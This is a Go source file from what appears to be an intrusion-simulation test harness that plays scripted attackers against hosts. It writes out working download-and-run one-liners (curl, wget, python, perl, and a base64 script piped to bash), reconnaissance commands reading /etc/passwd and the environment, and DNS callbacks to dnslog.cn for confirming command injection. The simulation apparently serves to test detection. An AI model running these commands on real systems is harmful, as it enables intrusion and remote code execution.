package fleet

import (
	"context"
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"strings"
	"time"

	"baize/test/intrusions/stage"
)

// actor is one intruder.
type actor struct {
	name string
	plan *plan
	rng  *rand.Rand
	f    *Fleet
	kit  *stage.Kit
	// how he brings his tools.
	how technique
	// now is what he uses at the moment, next what comes after he rotated.
	now, next kitbag
	// hasty : he brings his tool with the request by which he looks around.
	hasty bool
	// tail are the letters by which his probes are known at the public service.
	tail string
	on   map[string]*stage.Intruder
}

// kitbag is what an intruder rotates.
type kitbag struct {
	source, server, c2 string
	// download is the name on the server, path the one on the host.
	download, path string
}

// url of the tool.
func (b *kitbag) url() string { return "http://" + b.server + "/" + b.download }

// technique is how an intruder works: what he makes a command of that fetches a
// tool, permits it and runs it, and one that asks for a name.
type technique struct {
	name    string
	command func(b *kitbag) string
	ask     func(name string) string
}

var techniques = []technique{
	{"curl", func(b *kitbag) string {
		return fmt.Sprintf("curl -s %s -o %s; chmod +x %s; %s", b.url(), b.path, b.path, b.path)
	}, func(name string) string { return "curl -s -m 1 http://" + name + "/" }},
	{"python", func(b *kitbag) string {
		return fmt.Sprintf(`python3 -c "import urllib.request as u,os;u.urlretrieve('%s','%s');os.chmod('%s',493);os.execv('%s',['worker'])"`, b.url(), b.path, b.path, b.path)
	}, func(name string) string { return `python3 -c "import socket;socket.gethostbyname('` + name + `')"` }},
	{"wget", func(b *kitbag) string {
		return fmt.Sprintf("wget -q %s -O %s.dat; install -m 755 %s.dat %s; rm %s.dat; %s", b.url(), b.path, b.path, b.path, b.path, b.path)
	}, func(name string) string { return "wget -q -T 1 -t 1 -O /dev/null http://" + name + "/" }},
	{"pipe", func(b *kitbag) string {
		script := fmt.Sprintf("curl -s %s > %s\nchmod 700 %s\n%s\n", b.url(), b.path, b.path, b.path)
		return "echo " + base64.StdEncoding.EncodeToString([]byte(script)) + " | base64 -d | bash"
	}, func(name string) string { return "getent ahosts " + name }},
	{"perl", func(b *kitbag) string {
		return fmt.Sprintf(`perl -e 'system("curl","-sfo","%s","%s");chmod 0755,"%s";exec "%s"'`, b.path, b.url(), b.path, b.path)
	}, func(name string) string { return `perl -e 'gethostbyname("` + name + `")'` }},
}

// looks around are many, and each intruder has his own.
var looks = []string{"id", "whoami", "uname -a", "cat /etc/passwd > /dev/null", "ls -la / > /dev/null", "ps aux > /dev/null", "env > /dev/null", "hostname", "df -h > /dev/null", "cat /proc/version"}

// at is the intruder on a host: his own labels there. from is where the host sees
// him come from.
func (a *actor) at(name, from string) *stage.Intruder {
	if a.on[name] == nil {
		a.on[name] = a.f.Intruder(a.f.Hosts[name], from)
		a.on[name].Actor = a.name
	}
	a.on[name].From = from
	return a.on[name]
}

// perform plays the plan, after a moment.
func (a *actor) perform(ctx context.Context) error {
	if err := a.breathe(ctx); err != nil {
		return err
	}
	if err := a.plan.play(ctx, a); err != nil {
		return fmt.Errorf("%s: %w", a.name, err)
	}
	return nil
}

// breathe is the pause between two steps.
func (a *actor) breathe(ctx context.Context) error {
	return pause(ctx, time.Duration(a.rng.IntN(1200))*time.Millisecond)
}

// rotate changes everything that he can.
func (a *actor) rotate() { a.now = a.next }

// deliver brings the tool through the hole of a host's service, and runs it, with
// something before that.
func (a *actor) deliver(ctx context.Context, name string, before ...string) error {
	i := a.at(name, a.now.source)
	if err := i.Inject(ctx, strings.Join(append(before, a.how.command(&a.now)), "; ")); err != nil {
		return err
	}
	i.Brought(a.now.path)
	i.Called(a.now.c2)
	return a.breathe(ctx)
}

// probe looks whether the hole is one, and around.
func (a *actor) probe(ctx context.Context, name string) error {
	words := []string{a.ask()}
	for _, k := range a.rng.Perm(len(looks))[:3+a.rng.IntN(3)] {
		words = append(words, looks[k])
	}
	if a.hasty {
		words = append(words, a.how.command(&a.now))
	}
	if err := a.at(name, a.now.source).Inject(ctx, strings.Join(words, "; ")); err != nil {
		return err
	}
	return a.breathe(ctx)
}

// ask is a command by which he learns that the hole is one: it asks for a name below
// the one that the public service gave him.
func (a *actor) ask() string { return a.how.ask(letters(a.rng, 6) + "." + a.tail + ".dnslog.cn") }

// letters are n random ones.
func letters(rng *rand.Rand, n int) string {
	var b strings.Builder
	for range n {
		b.WriteByte(byte('a' + rng.IntN(26)))
	}
	return b.String()
}
